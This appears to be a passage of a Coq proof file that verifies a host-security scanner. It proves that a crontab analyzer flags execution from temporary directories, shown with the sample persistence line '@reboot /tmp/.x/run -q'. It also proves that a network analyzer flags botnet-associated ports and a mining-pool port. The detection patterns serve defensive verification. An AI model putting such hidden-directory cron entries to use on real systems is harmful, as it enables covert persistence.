(** A path under a temporary directory that starts a text. *)
Lemma tmpPathHere_some (s m : jsstring) :
  tmpPathHere s = Some m ->
  exists dir name post,
    s = m ++ post /\ m = dir ++ name /\ In dir TMP_DIRS /\ name <> []
    /\ Forall (fun c => isWhiteSpace c = false) name
    /\ match post with c :: _ => isWhiteSpace c = true | [] => True end.
Proof.
  unfold tmpPathHere.
  destruct (List.find (startsWith s) TMP_DIRS) as [dir|] eqn:Hfind;
    [|discriminate].
  apply List.find_some in Hfind as [Hin Hstart].
  apply startsWith_spec in Hstart as [s1 ->].
  rewrite skipn_app, skipn_all, Nat.sub_diag, skipn_O. cbn [app].
  destruct s1 as [|c s1]; [discriminate|].
  destruct (isWhiteSpace c) eqn:Hc; [discriminate|]. intros Hm.
  assert (Em : dir ++ untilSpace (c :: s1) = m) by congruence.
  clear Hm. subst m.
  destruct (untilSpace_spec (c :: s1)) as [Hname Hpost].
  exists dir, (untilSpace (c :: s1)), (fromSpace (c :: s1)).
  split; [rewrite <- app_assoc, untilSpace_fromSpace; reflexivity|].
  split; [reflexivity|]. split; [exact Hin|].
  split; [cbn [untilSpace]; rewrite Hc; discriminate|].
  split; assumption.
Qed.

Lemma tmpPathHere_complete (dir : jsstring) (c : N) (rest : jsstring) :
  In dir TMP_DIRS -> isWhiteSpace c = false ->
  exists m, tmpPathHere (dir ++ c :: rest) = Some m.
Proof.
  intros Hin Hc. unfold tmpPathHere.
  assert (Hskip : forall d : jsstring,
            skipn (length d) (d ++ c :: rest) = c :: rest).
  { intros d. rewrite skipn_app, skipn_all, Nat.sub_diag, skipn_O.
    reflexivity. }
  destruct Hin as [<-|[<-|[<-|[]]]].
  - change (List.find (startsWith (js "/tmp/" ++ c :: rest)) TMP_DIRS)
      with (Some (js "/tmp/")).
    cbv beta iota. rewrite Hskip, Hc. eexists; reflexivity.
  - change (List.find (startsWith (js "/var/tmp/" ++ c :: rest)) TMP_DIRS)
      with (Some (js "/var/tmp/")).
    cbv beta iota. rewrite Hskip, Hc. eexists; reflexivity.
  - change (List.find (startsWith (js "/dev/shm/" ++ c :: rest)) TMP_DIRS)
      with (Some (js "/dev/shm/")).
    cbv beta iota. rewrite Hskip, Hc. eexists; reflexivity.
Qed.

Lemma firstTmpPath_some (line m : jsstring) :
  firstTmpPath line = Some m ->
  exists pre dir name post,
    line = pre ++ m ++ post /\ m = dir ++ name /\ In dir TMP_DIRS
    /\ name <> []
    /\ Forall (fun c => isWhiteSpace c = false) name
    /\ match post with c :: _ => isWhiteSpace c = true | [] => True end
    /\ forall pre1 dir1 c1 rest1,
         line = pre1 ++ dir1 ++ c1 :: rest1 ->
         In dir1 TMP_DIRS -> isWhiteSpace c1 = false ->
         length pre <= length pre1.
Proof.
  induction line as [|x line IH]; cbn [firstTmpPath].
  - destruct (tmpPathHere []) as [m0|] eqn:Hhere; [|discriminate].
    intros [= <-].
    destruct (tmpPathHere_some _ _ Hhere)
      as (dir & name & post & Hs & Hm & Hin & Hne & Hname & Hpost).
    exists [], dir, name, post. cbn [app length].
    repeat split; try assumption. intros; lia.
  - destruct (tmpPathHere (x :: line)) as [m0|] eqn:Hhere.
    + intros [= <-].
      destruct (tmpPathHere_some _ _ Hhere)
        as (dir & name & post & Hs & Hm & Hin & Hne & Hname & Hpost).
      exists [], dir, name, post. cbn [app length].
      repeat split; try assumption. intros; lia.
    + intros Hrest.
      destruct (IH Hrest)
        as (pre & dir & name & post & Hs & Hm & Hin & Hne & Hname & Hpost
            & Hleft).
      exists (x :: pre), dir, name, post. cbn [app length].
      split; [rewrite Hs; reflexivity|].
      repeat split; try assumption.
      intros [|y pre1] dir1 c1 rest1 Hline Hin1 Hc1.
      * cbn [app] in Hline. rewrite Hline in Hhere.
        destruct (tmpPathHere_complete dir1 c1 rest1 Hin1 Hc1) as [m1 Hm1].
        congruence.
      * cbn [app] in Hline. injection Hline as _ Hline.
        specialize (Hleft pre1 dir1 c1 rest1 Hline Hin1 Hc1).
        cbn [length]. lia.
Qed.

Lemma firstTmpPath_complete (pre dir : jsstring) (c : N) (rest : jsstring) :
  In dir TMP_DIRS -> isWhiteSpace c = false ->
  exists m, firstTmpPath (pre ++ dir ++ c :: rest) = Some m.
Proof.
  intros Hin Hc. induction pre as [|x pre IH].
  - destruct (tmpPathHere_complete dir c rest Hin Hc) as [m Hm].
    exists m. cbn [app]. destruct (dir ++ c :: rest); cbn [firstTmpPath];
      rewrite Hm; reflexivity.
  - cbn [app firstTmpPath]. destruct (tmpPathHere _) as [m|]; eauto.
Qed.

(** X22: the path that the crontab analyzer reports for a line that runs
    something under a temporary directory. What the pattern of the analyzer
    matches is what a plain scan of the line finds: the leftmost place where
    /tmp/, /var/tmp/ or /dev/shm/ is followed by a unit that is no white
    space, from the directory up to the next white space or the end of the
    line. Every line with such a place that is not skipped gets the finding
    of the temporary directory, with that path. *)
Theorem X22_tmp_path_of_crontab_line :
  (forall line : jsstring,
     RegExp.exec CrontabAnalyzer.TMP_EXEC_RE line = firstTmpPath line)
  /\ (forall line m : jsstring,
        firstTmpPath line = Some m ->
        exists pre dir name post,
          line = pre ++ m ++ post /\ m = dir ++ name /\ In dir TMP_DIRS
          /\ name <> []
          /\ Forall (fun c => isWhiteSpace c = false) name
          /\ match post with c :: _ => isWhiteSpace c = true | [] => True end
          /\ forall pre1 dir1 c1 rest1,
               line = pre1 ++ dir1 ++ c1 :: rest1 ->
               In dir1 TMP_DIRS -> isWhiteSpace c1 = false ->
               length pre <= length pre1)
  /\ (forall (pre dir : jsstring) (c : N) (rest : jsstring),
        In dir TMP_DIRS -> isWhiteSpace c = false ->
        exists m, firstTmpPath (pre ++ dir ++ c :: rest) = Some m)
  /\ (forall (source : CrontabAnalyzer.Source) (i : nat) (raw : jsstring)
             (e : Emitter) (m : jsstring),
        (length (trim raw) =? 0) || startsWith (trim raw) (js "#")
        || RegExp.test CrontabAnalyzer.ASSIGNMENT_RE (trim raw) = false ->
        firstTmpPath (trim raw) = Some m ->
        exists fid,
          In (CrontabAnalyzer.tmpFinding source i (trim raw) m fid)
             (emitted (CrontabAnalyzer.analyzeLine source i raw e))).
Proof.
  split; [exact exec_tmp|]. split; [exact firstTmpPath_some|].
  split; [exact firstTmpPath_complete|].
  intros source i raw e m Hguard Hm. rewrite <- exec_tmp in Hm.
  unfold CrontabAnalyzer.analyzeLine. cbv zeta. rewrite Hguard, Hm.
  destruct (RegExp.exec CrontabAnalyzer.HIDDEN_DIR_EXEC_RE (trim raw));
    rewrite push_emitted; eexists; apply in_or_app; right; left; reflexivity.
Qed.

(** The path matched in a line that runs a binary under /tmp. *)
Lemma X22_tmp_path_of_crontab_line_witness :
  let raw := js "  @reboot /tmp/.x/run -q" in
  firstTmpPath (trim raw) = Some (js "/tmp/.x/run")
  /\ RegExp.exec CrontabAnalyzer.TMP_EXEC_RE (trim raw)
     = Some (js "/tmp/.x/run")
  /\ exists fid,
       In (CrontabAnalyzer.tmpFinding
             (CrontabAnalyzer.mkSource (js "root crontab") raw) 0 (trim raw)
             (js "/tmp/.x/run") fid)
          (emitted (CrontabAnalyzer.analyzeLine
                      (CrontabAnalyzer.mkSource (js "root crontab") raw) 0
                      raw emitter0)).
Proof.
  cbv zeta.
  assert (H : firstTmpPath (trim (js "  @reboot /tmp/.x/run -q"))
              = Some (js "/tmp/.x/run")) by reflexivity.
  split; [exact H|]. split.
  - rewrite (proj1 X22_tmp_path_of_crontab_line). exact H.
  - exact (proj2 (proj2 (proj2 X22_tmp_path_of_crontab_line))
                 (CrontabAnalyzer.mkSource (js "root crontab")
                                           (js "  @reboot /tmp/.x/run -q"))
                 0 (js "  @reboot /tmp/.x/run -q") emitter0
                 (js "/tmp/.x/run") eq_refl H).
Defined.

(** ** Severity labels *)

(** X23: [toSeverity] reads the five lower-case labels as their levels
    and is case-sensitive: each label as [severityLabel] writes it, in
    capitals, is read as MEDIUM, and so is every other text that is not an
    inherited key; lower-casing a written label first gives the level
    back. A text that is no inherited key is always read as a level; an
    inherited key is read as the inherited member, which is no level. *)
Theorem X23_toSeverity_labels :
  (forall sev : Severity,
     toSeverity (asciiLower (severityLabel sev)) = Level sev)
  /\ (forall sev : Severity, toSeverity (severityLabel sev) = Level MEDIUM)
  /\ (forall s : jsstring,
        inheritedKey s = false ->
        toSeverity s <> Level MEDIUM ->
        s = js "critical" \/ s = js "high" \/ s = js "low" \/ s = js "info")
  /\ (forall s : jsstring,
        inheritedKey s = false -> exists sev, toSeverity s = Level sev)
  /\ (forall s : jsstring,
        inheritedKey s = true -> toSeverity s = InheritedMember s).
Proof.
  split; [|split; [|split; [|split]]].
  - intros []; reflexivity.
  - intros []; reflexivity.
  - intros s Hk H. unfold toSeverity in H. rewrite Hk in H.
    destruct (str_eqb s (js "critical")) eqn:H1;
      [apply str_eqb_eq in H1; auto|].
    destruct (str_eqb s (js "high")) eqn:H2; [apply str_eqb_eq in H2; auto|].
    destruct (str_eqb s (js "medium")) eqn:H3; [congruence|].
    destruct (str_eqb s (js "low")) eqn:H4; [apply str_eqb_eq in H4; auto|].
    destruct (str_eqb s (js "info")) eqn:H5; [apply str_eqb_eq in H5; auto|].
    congruence.
  - intros s Hk. unfold toSeverity. rewrite Hk.
    repeat match goal with
           | |- context [if str_eqb s ?l then _ else _] =>
               destruct (str_eqb s l)
           end; eexists; reflexivity.
  - intros s Hk. unfold inheritedKey in Hk.
    apply existsb_exists in Hk as (k & Hin & Heq).
    apply str_eqb_eq in Heq. subst k.
    unfold inheritedKeys in Hin. cbn [In] in Hin.
    repeat (destruct Hin as [<-|Hin]; [reflexivity|]). destruct Hin.
Qed.

(** The label "high" is no inherited key and is not read as MEDIUM; the
    text "constructor" is an inherited key and is read as no level. *)
Lemma X23_toSeverity_labels_witness :
  inheritedKey (js "high") = false
  /\ toSeverity (js "high") <> Level MEDIUM
  /\ (js "high" = js "critical" \/ js "high" = js "high"
      \/ js "high" = js "low" \/ js "high" = js "info")
  /\ toSeverity (js "constructor") = InheritedMember (js "constructor").
Proof.
  assert (H1 : inheritedKey (js "high") = false) by reflexivity.
  assert (H2 : toSeverity (js "high") <> Level MEDIUM) by discriminate.
  split; [exact H1|]. split; [exact H2|]. split.
  - exact (proj1 (proj2 (proj2 X23_toSeverity_labels)) (js "high") H1 H2).
  - exact (proj2 (proj2 (proj2 (proj2 X23_toSeverity_labels)))
                 (js "constructor") eq_refl).
Defined.

(** ** The network analyzer *)

(** A loop whose every iteration appends findings that meet a condition on
    the element appends, element by element, findings that meet it. *)
Lemma fold_left_emits {A B E : Type} (emitted : E -> list B)
  (step : E -> A -> E) (S : A -> list B -> Prop) (xs : list A) (e : E) :
  (forall e x, exists new, emitted (step e x) = emitted e ++ new /\ S x new) ->
  exists news : list (list B),
    emitted (fold_left step xs e) = emitted e ++ concat news
    /\ Forall2 S xs news.
Proof.
  intros Hstep. revert e. induction xs as [|x xs IH]; intros e.
  - exists []. cbn. rewrite app_nil_r. split; [reflexivity | constructor].
  - cbn [fold_left]. destruct (Hstep e x) as (new & Hnew & HS).
    destruct (IH (step e x)) as (news & Hnews & Hfor).
    exists (new :: news). rewrite Hnews, Hnew, <- app_assoc.
    split; [reflexivity | constructor; assumption].
Qed.

Lemma Forall2_emitted_in {A B : Type} (S : A -> list B -> Prop)
  (xs : list A) (news : list (list B)) (x : A) :
  Forall2 S xs news -> In x xs ->
  exists new, S x new /\ forall f, In f new -> In f (concat news).
Proof.
  induction 1 as [|y new xs news Hy _ IH]; [intros []|].
  intros [->|Hin].
  - exists new. split; [exact Hy|]. intros f Hf. cbn.
    apply in_or_app. left. exact Hf.
  - destruct (IH Hin) as (new' & HS & Hsub). exists new'.
    split; [exact HS|]. intros f Hf. cbn. apply in_or_app. right. auto.
Qed.

Lemma Forall2_emitted_length {A B : Type} (S : A -> list B -> Prop)
  (n : nat) (xs : list A) (news : list (list B)) :
  (forall x new, S x new -> length new <= n) ->
  Forall2 S xs news -> length (concat news) <= n * length xs.
Proof.
  intros Hn. induction 1 as [|y new xs news Hy _ IH]; [cbn; lia|].
  cbn [concat length]. rewrite length_app. specialize (Hn _ _ Hy). lia.
Qed.

Section NetworkFacts.

Import NetworkAnalyzer.

Variable lookupIP : jsstring -> option IPEntry.
Variable ipEntryValue : IPEntry -> jsval.
Variable portEntryValue : ThreatDB.PortEntry -> jsval.
Variable threatDB : ThreatDB.t.

Lemma push_pushed (mk : jsstring -> Reported) (o : Output) :
  pushed (NetworkAnalyzer.push mk o)
  = pushed o ++ [mk (fst (NetworkAnalyzer.nextId o))].
Proof. reflexivity. Qed.

Lemma analyzeConnection_adds (e : Output) (conn : ActiveConnection) :
  exists new,
    pushed (analyzeConnection lookupIP ipEntryValue portEntryValue threatDB
                              e conn)
    = pushed e ++ new
    /\ connectionAdds lookupIP ipEntryValue portEntryValue threatDB conn new.
Proof.
  unfold analyzeConnection, connectionAdds. cbv zeta.
  assert (Hbot : In (remotePort conn) BOTNET_SCAN_PORTS ->
                 existsb (Z.eqb (remotePort conn)) BOTNET_SCAN_PORTS = true).
  { intros Hin. apply existsb_exists. exists (remotePort conn).
    split; [exact Hin | apply Z.eqb_refl]. }
  destruct (lookupIP (remoteAddr conn)) as [ipThreat|],
    (ThreatDB.matchPort threatDB (remotePort conn) ThreatDB.outbound)
      as [portThreat|],
    (existsb (Z.eqb (remotePort conn)) BOTNET_SCAN_PORTS);
    rewrite ?push_pushed, <- ?app_assoc; cbn [app];
    (eexists; split; [try reflexivity; symmetry; apply app_nil_r|]);
    (split; [cbn; lia|]);
    (split; [intros ? [= <-] || intros ? [=]; eexists; cbn; eauto|]);
    (split; [intros ? [= <-] || intros ? [=]; eexists; cbn; eauto|]);
    intros Hin; try (specialize (Hbot Hin); discriminate Hbot);
    eexists; cbn; eauto.
Qed.

Lemma analyzeListening_adds (e : Output) (lp : ListeningPort) :
  exists new,
    pushed (analyzeListening portEntryValue threatDB e lp) = pushed e ++ new
    /\ listeningAdds portEntryValue threatDB lp new.
Proof.
  unfold analyzeListening, listeningAdds. cbv zeta.
  assert (Hhigh : (1024 < localPort lp)%Z ->
                  localAddr lp = js "0.0.0.0" \/ localAddr lp = js "*"
                  \/ localAddr lp = js "::" ->
                  (localPort lp >? 1024)%Z
                  && (str_eqb (localAddr lp) (js "0.0.0.0")
                      || str_eqb (localAddr lp) (js "*")
                      || str_eqb (localAddr lp) (js "::")) = true).
  { intros Hp Ha. apply andb_true_iff. split; [lia|].
    destruct Ha as [->| [->| ->]]; reflexivity. }
  destruct (ThreatDB.matchPort threatDB (localPort lp) ThreatDB.listening)
    as [portThreat|],
    ((localPort lp >? 1024)%Z && _);
    rewrite ?push_pushed, <- ?app_assoc; cbn [app];
    (eexists; split; [try reflexivity; symmetry; apply app_nil_r|]);
    (split; [cbn; lia|]);
    (split; [intros ? [= <-] || intros ? [=]; eexists; cbn; eauto|]);
    intros Hp Ha; try (specialize (Hhigh Hp Ha); discriminate Hhigh);
    eexists; cbn; eauto.
Qed.

Lemma network_output (data : Data) :
  exists (fromConnections fromListening : list (list Reported)),
    analyze lookupIP ipEntryValue portEntryValue data threatDB
    = concat fromConnections ++ concat fromListening
    /\ Forall2 (connectionAdds lookupIP ipEntryValue portEntryValue threatDB)
               (default [] (connections data)) fromConnections
    /\ Forall2 (listeningAdds portEntryValue threatDB)
               (default [] (listening data)) fromListening.
Proof.
  unfold analyze. cbv zeta.
  destruct (fold_left_emits pushed
              (analyzeConnection lookupIP ipEntryValue portEntryValue threatDB)
              (connectionAdds lookupIP ipEntryValue portEntryValue threatDB)
              (default [] (connections data)) output0
              analyzeConnection_adds) as (n1 & H1 & F1).
  destruct (fold_left_emits pushed
              (analyzeListening portEntryValue threatDB)
              (listeningAdds portEntryValue threatDB)
              (default [] (listening data))
              (fold_left (analyzeConnection lookupIP ipEntryValue
                                            portEntryValue threatDB)
                         (default [] (connections data)) output0)
              analyzeListening_adds) as (n2 & H2 & F2).
  exists n1, n2. rewrite H2, H1. repeat split; assumption.
Qed.

End NetworkFacts.

Lemma matchPort_listening_some (db : ThreatDB.t) (p : Z)
  (e0 : ThreatDB.PortEntry) :
  In e0 (ThreatDB.ports db) -> ThreatDB.port e0 = p ->
  ThreatDB.direction e0 = js "listening"
  \/ ThreatDB.direction e0 = js "outbound" ->
  exists e, ThreatDB.matchPort db p ThreatDB.listening = Some e.
Proof.
  intros Hin Hp Hd. unfold ThreatDB.matchPort.
  change (str_eqb (ThreatDB.Direction_string ThreatDB.listening) (js "listening"))
    with true. cbv iota.
  induction (ThreatDB.ports db) as [|e1 entries IH]; [destruct Hin|].
  cbn [ThreatDB.matchPortIn].
  destruct ((ThreatDB.port e1 =? p)%Z && _) eqn:Hhit; [eauto|].
  destruct Hin as [->|Hin]; [|exact (IH Hin)].
  apply Z.eqb_eq in Hp. rewrite Hp in Hhit.
  destruct Hd as [Hd|Hd]; rewrite Hd in Hhit; discriminate Hhit.
Qed.

(** X24: the network analyzer reports every port that the store knows.
    A connection whose remote port has a stored entry for an outbound query
    gets the finding of that entry, and a listening port whose number has a
    stored entry of direction "listening" or "outbound" gets the "Suspicious
    listening port" finding of the first such entry: an entry stored as
    outbound also flags a port that merely listens. The severity of the
    finding is what [toSeverity] evaluates to at the stored text: its level
    or, when the text is an inherited key, the inherited member. *)
Theorem X24_network_reports_stored_ports
  (lookupIP : jsstring -> option NetworkAnalyzer.IPEntry)
  (ipEntryValue : NetworkAnalyzer.IPEntry -> jsval)
  (portEntryValue : ThreatDB.PortEntry -> jsval)
  (threatDB : ThreatDB.t) (data : NetworkAnalyzer.Data) :
  let fs := NetworkAnalyzer.analyze lookupIP ipEntryValue portEntryValue
                                    data threatDB in
  (forall conn portThreat,
     In conn (default [] (NetworkAnalyzer.connections data)) ->
     ThreatDB.matchPort threatDB (NetworkAnalyzer.remotePort conn)
                        ThreatDB.outbound = Some portThreat ->
     exists f, In f fs
               /\ NetworkAnalyzer.r_severity f
                  = toSeverity (ThreatDB.severity portThreat)
               /\ NetworkAnalyzer.r_title f
                  = js "Outbound connection to suspicious port "
                    ++ NetworkAnalyzer.String_Z (NetworkAnalyzer.remotePort conn))
  /\ (forall lp stored,
        In lp (default [] (NetworkAnalyzer.listening data)) ->
        In stored (ThreatDB.ports threatDB) ->
        ThreatDB.port stored = NetworkAnalyzer.localPort lp ->
        ThreatDB.direction stored = js "listening"
        \/ ThreatDB.direction stored = js "outbound" ->
        exists f portThreat,
          In f fs
          /\ ThreatDB.matchPort threatDB (NetworkAnalyzer.localPort lp)
                                ThreatDB.listening = Some portThreat
          /\ NetworkAnalyzer.r_severity f
             = toSeverity (ThreatDB.severity portThreat)
          /\ NetworkAnalyzer.r_title f
             = js "Suspicious listening port "
               ++ NetworkAnalyzer.String_Z (NetworkAnalyzer.localPort lp)).
Proof.
  cbn zeta.
  destruct (network_output lookupIP ipEntryValue portEntryValue threatDB data)
    as (n1 & n2 & -> & F1 & F2).
  split.
  - intros conn portThreat Hin Hmatch.
    destruct (Forall2_emitted_in _ _ _ _ F1 Hin)
      as (new & (_ & _ & Hport & _) & Hsub).
    destruct (Hport _ Hmatch) as [i Hi].
    eexists. split; [apply in_or_app; left; apply Hsub, Hi|].
    split; [reflexivity|]. cbn [NetworkAnalyzer.r_title NetworkAnalyzer.outboundPortFinding concat].
    rewrite app_nil_r. reflexivity.
  - intros lp stored Hin Hstored Hport Hdir.
    destruct (matchPort_listening_some _ _ _ Hstored Hport Hdir)
      as [portThreat Hmatch].
    destruct (Forall2_emitted_in _ _ _ _ F2 Hin)
      as (new & (_ & Hlisten & _) & Hsub).
    destruct (Hlisten _ Hmatch) as [i Hi].
    eexists _, portThreat.
    split; [apply in_or_app; right; apply Hsub, Hi|].
    split; [exact Hmatch|]. split; [reflexivity|].
    cbn [NetworkAnalyzer.r_title NetworkAnalyzer.listeningPortFinding concat].
    rewrite app_nil_r. reflexivity.
Qed.

(** X25: the heuristics of the network analyzer. A connection to remote
    port 23, 2323 or 37215 gets a HIGH finding; a port above 1024 that
    listens on 0.0.0.0, * or :: gets an INFO finding; the analyzer reports at
    most three findings per connection and two per listening port. *)
Theorem X25_network_heuristics
  (lookupIP : jsstring -> option NetworkAnalyzer.IPEntry)
  (ipEntryValue : NetworkAnalyzer.IPEntry -> jsval)
  (portEntryValue : ThreatDB.PortEntry -> jsval)
  (threatDB : ThreatDB.t) (data : NetworkAnalyzer.Data) :
  let fs := NetworkAnalyzer.analyze lookupIP ipEntryValue portEntryValue
                                    data threatDB in
  (forall conn,
     In conn (default [] (NetworkAnalyzer.connections data)) ->
     In (NetworkAnalyzer.remotePort conn) [23; 2323; 37215]%Z ->
     exists f, In f fs /\ NetworkAnalyzer.r_severity f = Level HIGH
               /\ NetworkAnalyzer.r_title f
                  = js "Outbound connection to botnet-associated port "
                    ++ NetworkAnalyzer.String_Z (NetworkAnalyzer.remotePort conn))
  /\ (forall lp,
        In lp (default [] (NetworkAnalyzer.listening data)) ->
        (1024 < NetworkAnalyzer.localPort lp)%Z ->
        NetworkAnalyzer.localAddr lp = js "0.0.0.0"
        \/ NetworkAnalyzer.localAddr lp = js "*"
        \/ NetworkAnalyzer.localAddr lp = js "::" ->
        exists f, In f fs /\ NetworkAnalyzer.r_severity f = Level INFO
                  /\ NetworkAnalyzer.r_title f
                     = js "High port "
                       ++ NetworkAnalyzer.String_Z (NetworkAnalyzer.localPort lp)
                       ++ js " listening on all interfaces")
  /\ length fs
     <= 3 * length (default [] (NetworkAnalyzer.connections data))
        + 2 * length (default [] (NetworkAnalyzer.listening data)).
Proof.
  cbn zeta.
  destruct (network_output lookupIP ipEntryValue portEntryValue threatDB data)
    as (n1 & n2 & -> & F1 & F2).
  split; [|split].
  - intros conn Hin Hport.
    destruct (Forall2_emitted_in _ _ _ _ F1 Hin)
      as (new & (_ & _ & _ & Hbot) & Hsub).
    destruct (Hbot Hport) as [i Hi].
    eexists. split; [apply in_or_app; left; apply Hsub, Hi|].
    split; [reflexivity|]. cbn [NetworkAnalyzer.r_title NetworkAnalyzer.botnetFinding concat].
    rewrite app_nil_r. reflexivity.
  - intros lp Hin Hp Ha.
    destruct (Forall2_emitted_in _ _ _ _ F2 Hin)
      as (new & (_ & _ & Hhigh) & Hsub).
    destruct (Hhigh Hp Ha) as [i Hi].
    eexists. split; [apply in_or_app; right; apply Hsub, Hi|].
    split; [reflexivity|]. cbn [NetworkAnalyzer.r_title NetworkAnalyzer.highPortFinding concat].
    rewrite app_nil_r. reflexivity.
  - rewrite length_app.
    pose proof (Forall2_emitted_length _ 3 _ _
                  (fun x new (H : connectionAdds lookupIP ipEntryValue
                                    portEntryValue threatDB x new) => proj1 H)
                  F1).
    pose proof (Forall2_emitted_length _ 2 _ _
                  (fun x new (H : listeningAdds portEntryValue threatDB x new)
                   => proj1 H) F2).
    lia.
Qed.

(** A stored severity text that is an inherited key: the finding carries
    the inherited member, no level. *)
Example network_inherited_severity :
  map NetworkAnalyzer.r_severity
      (NetworkAnalyzer.analyze (fun _ => None) (fun _ => JNull)
         (fun _ => JNull) demoNetworkData
         (ThreatDB.mkThreatDB
            [ThreatDB.mkPortEntry 3333 (js "Monero mining pool")
                                  (js "constructor") (js "outbound")]))
  = [Level HIGH; InheritedMember (js "constructor"); Level INFO].
Proof. reflexivity. Qed.

(** A socket that listens on port 3333, stored as outbound, is reported. *)
Lemma X24_network_reports_stored_ports_witness :
  In demoListening (default [] (NetworkAnalyzer.listening demoNetworkData))
  /\ In demoPortEntry (ThreatDB.ports (ThreatDB.mkThreatDB [demoPortEntry]))
  /\ exists f portThreat,
       In f demoNetworkFindings
       /\ ThreatDB.matchPort (ThreatDB.mkThreatDB [demoPortEntry]) 3333
                             ThreatDB.listening = Some portThreat
       /\ NetworkAnalyzer.r_severity f
                  = toSeverity (ThreatDB.severity portThreat)
       /\ NetworkAnalyzer.r_title f = js "Suspicious listening port "
                    ++ NetworkAnalyzer.String_Z 3333.
Proof.
  assert (H1 : In demoListening
                  (default [] (NetworkAnalyzer.listening demoNetworkData)))
    by (left; reflexivity).
  assert (H2 : In demoPortEntry
                  (ThreatDB.ports (ThreatDB.mkThreatDB [demoPortEntry])))
    by (left; reflexivity).
  split; [exact H1|]. split; [exact H2|].
  exact (proj2 (X24_network_reports_stored_ports
                  (fun _ => None) (fun _ => JNull) (fun _ => JNull)
                  (ThreatDB.mkThreatDB [demoPortEntry]) demoNetworkData)
               demoListening demoPortEntry H1 H2 eq_refl
               (or_intror eq_refl)).
Defined.

(** A connection to port 23 is reported as HIGH. *)
Lemma X25_network_heuristics_witness :
  In demoConnection (default [] (NetworkAnalyzer.connections demoNetworkData))
  /\ In (NetworkAnalyzer.remotePort demoConnection) [23; 2323; 37215]%Z
  /\ exists f, In f demoNetworkFindings
               /\ NetworkAnalyzer.r_severity f = Level HIGH
               /\ NetworkAnalyzer.r_title f
                  = js "Outbound connection to botnet-associated port "
                    ++ NetworkAnalyzer.String_Z 23.
Proof.
  assert (H1 : In demoConnection
                  (default [] (NetworkAnalyzer.connections demoNetworkData)))
    by (left; reflexivity).
  assert (H2 : In (NetworkAnalyzer.remotePort demoConnection)
                  [23; 2323; 37215]%Z) by (left; reflexivity).
  split; [exact H1|]. split; [exact H2|].
  exact (proj1 (X25_network_heuristics
                  (fun _ => None) (fun _ => JNull) (fun _ => JNull)
                  (ThreatDB.mkThreatDB [demoPortEntry]) demoNetworkData)
               demoConnection H1 H2).
Defined.

(** ** Sizes *)

Lemma decimalValue_of_uint (d : Decimal.uint) (acc : nat) :
  fold_left (fun acc c => (10 * acc + (Z.of_N c - 48))%Z)
            (js (DecimalString.NilEmpty.string_of_uint d)) (Z.of_nat acc)
  = Z.of_nat (Nat.of_uint_acc d acc).
Proof.
  revert acc.
  induction d as [|d IH|d IH|d IH|d IH|d IH|d IH|d IH|d IH|d IH|d IH];
    intros acc; [reflexivity|..];
    cbn [DecimalString.NilEmpty.string_of_uint Nat.of_uint_acc];
    match goal with
    | |- fold_left _ (js (String ?c ?t)) _ = _ =>
        change (js (String c t)) with (N_of_ascii c :: js t)
    end;
    cbn [fold_left]; rewrite <- IH; f_equal;
    rewrite ?Nat2Z.inj_succ, Nat.tail_mul_spec, Nat2Z.inj_mul; cbn; lia.
Qed.

Lemma String_nat_digits (n : nat) :
  Forall (fun c => isDigit c = true) (String_nat n)
  /\ String_nat n <> []
  /\ FormatSize.decimalValue (String_nat n) = Z.of_nat n.
Proof.
  assert (Hdig : forall d,
            Forall (fun c => isDigit c = true)
                   (js (DecimalString.NilEmpty.string_of_uint d))).
  { induction d; cbn [DecimalString.NilEmpty.string_of_uint];
      [constructor|..];
      match goal with
      | |- Forall _ (js (String ?c ?t)) =>
          change (js (String c t)) with (N_of_ascii c :: js t)
      end; (constructor; [reflexivity | assumption]). }
  unfold String_nat, DecimalString.NilZero.string_of_uint,
    FormatSize.decimalValue.
  pose proof (DecimalNat.Unsigned.of_to n) as Hn. unfold Nat.of_uint in Hn.
  destruct (Nat.to_uint n) as [|d|d|d|d|d|d|d|d|d|d] eqn:Hd;
    [cbn in Hn; subst n; change (js "0") with [48%N];
     split; [repeat constructor|]; split; [discriminate | reflexivity]|..];
    (split; [apply Hdig|]); (split; [discriminate|]);
    rewrite <- Hn; apply (decimalValue_of_uint _ 0).
Qed.

Lemma digitPrefix_app (digits rest : jsstring) :
  Forall (fun c => isDigit c = true) digits ->
  match rest with c :: _ => isDigit c = false | [] => True end ->
  FormatSize.digitPrefix (digits ++ rest) = digits.
Proof.
  intros Hd Hr. induction Hd as [|c digits Hc _ IH].
  - destruct rest as [|c rest]; [reflexivity|]. cbn. rewrite Hr. reflexivity.
  - cbn. rewrite Hc, IH. reflexivity.
Qed.

Lemma trimStart_app (ws t : jsstring) :
  Forall (fun c => isWhiteSpace c = true) ws ->
  trimStart (ws ++ t) = trimStart t.
Proof.
  induction 1 as [|c ws Hc _ IH]; [reflexivity|]. cbn. rewrite Hc. exact IH.
Qed.

Lemma parseInt10_numeral (ws rest : jsstring) (n : nat) :
  Forall (fun c => isWhiteSpace c = true) ws ->
  match rest with c :: _ => isDigit c = false | [] => True end ->
  FormatSize.parseInt10 (ws ++ String_nat n ++ rest)
  = FormatSize.numberFor (Z.of_nat n).
Proof.
  intros Hws Hrest.
  destruct (String_nat_digits n) as (Hdig & Hne & Hval).
  unfold FormatSize.parseInt10. cbv zeta. rewrite (trimStart_app _ _ Hws).
  destruct (String_nat n) as [|c digits] eqn:Hs; [congruence|].
  assert (Hc : isDigit c = true) by (inversion Hdig; assumption).
  assert (Hw : isWhiteSpace c = false).
  { unfold isDigit in Hc. unfold isWhiteSpace.
    apply andb_true_iff in Hc as [H1 H2].
    apply N.leb_le in H1, H2.
    repeat match goal with
           | |- context [(?a <=? ?b)%N] =>
               destruct (N.leb_spec a b); try lia
           | |- context [(?a =? ?b)%N] =>
               destruct (N.eqb_spec a b); try lia
           end; reflexivity. }
  assert (Hsign : (c =? 45)%N = false /\ (c =? 43)%N = false).
  { unfold isDigit in Hc. apply andb_true_iff in Hc as [H1 H2].
    apply N.leb_le in H1, H2. split; apply N.eqb_neq; lia. }
  destruct Hsign as [H45 H43].
  cbn [app trimStart]. rewrite Hw, H45, H43. cbn [orb].
  change (c :: digits ++ rest) with ((c :: digits) ++ rest).
  rewrite (digitPrefix_app _ _ Hdig Hrest), Hval. reflexivity.
Qed.

(** X26: [formatSize] gives a size text back unchanged when [parseInt]
    finds no number in it. A decimal numeral, also after white space and
    before text that does not continue it, is read as its number when that
    is at most 2^53, and as a Number rounded from it beyond; a size below
    1024 is written as that number followed by " B". *)
Theorem X26_formatSize_small_and_unparsable
  (floatText : Z -> jsstring) (toFixed1 : Z -> Z -> jsstring) :
  (forall sizeStr : jsstring,
